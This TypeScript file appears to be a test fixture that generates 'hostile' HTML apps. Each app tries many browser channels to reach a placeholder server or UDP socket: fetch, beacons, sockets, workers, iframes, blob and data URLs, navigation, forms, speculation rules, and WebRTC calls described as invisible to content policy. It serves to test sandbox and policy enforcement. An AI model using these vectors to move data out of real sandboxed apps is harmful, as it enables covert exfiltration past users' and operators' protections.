/** Ways out of an app that leave it in its place. THERE is a listening server, UDP a listening socket. */
const staying: Record<string, string> = {
  fetch: "fetch('THERE/fetch', { mode: 'no-cors' })",
  'fetch with keepalive': "fetch('THERE/keepalive', { mode: 'no-cors', keepalive: true })",
  xhr: "{ const it = new XMLHttpRequest(); it.open('GET', 'THERE/xhr'); it.send() }",
  beacon: "navigator.sendBeacon('THERE/beacon', 'x')",
  socket: "new WebSocket('THERE/socket'.replace('http', 'ws'))",
  events: "new EventSource('THERE/events')",
  image: "new Image().src = 'THERE/image'",
  'lazy image': "add('img', { loading: 'eager', srcset: 'THERE/srcset 2x, THERE/srcset 1x' })",
  video: "add('video', { src: 'THERE/video', preload: 'auto' }).load()",
  poster: "add('video', { poster: 'THERE/poster' })",
  script: "add('script', { src: 'THERE/script' })",
  module: "import('THERE/module')",
  'module preload': "add('link', { rel: 'modulepreload', href: 'THERE/modulepreload' })",
  style: "add('link', { rel: 'stylesheet', href: 'THERE/style' })",
  import:
    "add('style', { textContent: '@import \"THERE/import\"; @font-face { font-family: x; src: url(THERE/font) } body { background: url(THERE/background); font-family: x }' })",
  preload: "add('link', { rel: 'preload', as: 'image', href: 'THERE/preload' })",
  prefetch: "add('link', { rel: 'prefetch', href: 'THERE/prefetch' })",
  preconnect: "add('link', { rel: 'preconnect', href: 'THERE' })",
  icon: "add('link', { rel: 'icon', href: 'THERE/icon' })",
  manifest: "add('link', { rel: 'manifest', href: 'THERE/manifest' })",
  'speculation rules':
    'add(\'script\', { type: \'speculationrules\', textContent: \'{"prefetch":[{"source":"list","urls":["THERE/speculation"]}],"prerender":[{"source":"list","urls":["THERE/prerender"]}]}\' })',
  frame: "add('iframe', { src: 'THERE/frame' })",
  'frame with a document': "add('iframe', { srcdoc: '<img src=THERE/srcdoc>' })",
  'frame of a blob':
    "add('iframe', { src: URL.createObjectURL(new Blob(['<img src=THERE/blob-frame>'], { type: 'text/html' })) })",
  'fetch of a blank frame': "add('iframe').contentWindow.fetch('THERE/blank-fetch', { mode: 'no-cors' })",
  object: "add('object', { data: 'THERE/object' })",
  embed: "add('embed', { src: 'THERE/embed' })",
  worker: "new Worker('THERE/worker')",
  'worker of a blob':
    "new Worker(blob(`fetch('THERE/blob-worker', { mode: 'no-cors' }); importScripts('THERE/blob-import')`))",
  'shared worker': "new SharedWorker(blob(`fetch('THERE/shared-worker', { mode: 'no-cors' })`))",
  'service worker': "navigator.serviceWorker.register('THERE/service-worker')",
  'ping of a link': "{ const it = add('a', { href: '#here', ping: 'THERE/ping' }); it.click() }",
  form: "{ const it = add('form', { action: 'THERE/form', method: 'post', target: 'other' }); add('iframe', { name: 'other' }); it.submit() }",
  'later fetch': "fetchLater('THERE/later', { activateAfter: 0 })",
  window: "open('THERE/window')",
  'window by a link': "add('a', { href: 'THERE/blank', target: '_blank' }).click()",
  download: "add('a', { href: blob('x'), download: 'x' }).click()",
  top: "top.location = 'THERE/top'",
  'top by a link': "add('a', { href: 'THERE/top-link', target: '_top' }).click()",
  parent: "parent.location = 'THERE/parent'",
  transport: "new WebTransport('THERE/transport'.replace('http', 'https'))",
}

/** Ways out by another document in the app's place; each needs an app to itself. */
const leaving: Record<string, string> = {
  href: "location.href = 'THERE/href'",
  replace: "location.replace('THERE/replace')",
  open: "open('THERE/self', '_self')",
  navigation: "navigation.navigate('THERE/navigation')",
  link: "add('a', { href: 'THERE/link' }).click()",
  'link to save': "add('a', { href: 'THERE/download', download: 'x' }).click()",
  refresh: "add('meta', { httpEquiv: 'refresh', content: '0;url=THERE/refresh' })",
  'form with GET': "add('form', { action: 'THERE/get' }).submit()",
  'form with POST': "add('form', { action: 'THERE/post', method: 'post' }).submit()",
  data: "location.href = 'data:text/html,<img src=THERE/data>'",
  blob: "location.href = blob('<img src=THERE/blob-page>', 'text/html')",
  script: 'location.href = \'javascript:"<img src=THERE/javascript>"\'',
  blank: "location.href = 'about:blank'",
  again: 'location.reload()',
}

/** Ways out by WebRTC, which no content policy sees. */
const calling: Record<string, string> = {
  'a call': 'call(RTCPeerConnection)',
  'a call of a blank frame': "call(add('iframe').contentWindow.RTCPeerConnection)",
}

const helpers = `
  const say = (method, params) => parent.postMessage({ jsonrpc: '2.0', method, params }, '*')
  const add = (name, members = {}) => document.body.appendChild(Object.assign(document.createElement(name), members))
  const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }))
  const call = async (Connection) => {
    const it = new Connection({ iceServers: [{ urls: 'stun:UDP' }] })
    it.createDataChannel('x')
    await it.setLocalDescription(await it.createOffer())
  }`

type Targets = { there: string; udp: string }

/** An app that tries these one after the other, and says so at the end: refusals don't stop it. */
function trying(attempts: string[], { there, udp }: Targets): string {
  const tries = attempts.map((attempt) => `try { void (${expression(attempt)}) } catch {}`)
  return `<!doctype html><title>Hostile</title><body><script>${helpers}
    addEventListener('unhandledrejection', (event) => event.preventDefault())
    addEventListener('load', () => setTimeout(async () => {
      ${tries.join('\n')}
      say('tried', {})
    }))</script>`
    .replaceAll('THERE', there)
    .replaceAll('UDP', udp)
}

/** A block as an expression. */
const expression = (attempt: string): string => (attempt.startsWith('{') ? `(() => ${attempt})()` : attempt)

/** The hostile apps by name. */
export function hostileApps(targets: Targets): Record<string, string> {
  const alone = Object.entries({ ...leaving, ...calling })
  return {
    staying: trying(Object.values(staying), targets),
    ...Object.fromEntries(alone.map(([name, attempt]) => [name, trying([attempt], targets)])),
  }
}

/** The names of the apps that go to another document. */
export const leavers = Object.keys(leaving)
export const callers = Object.keys(calling)
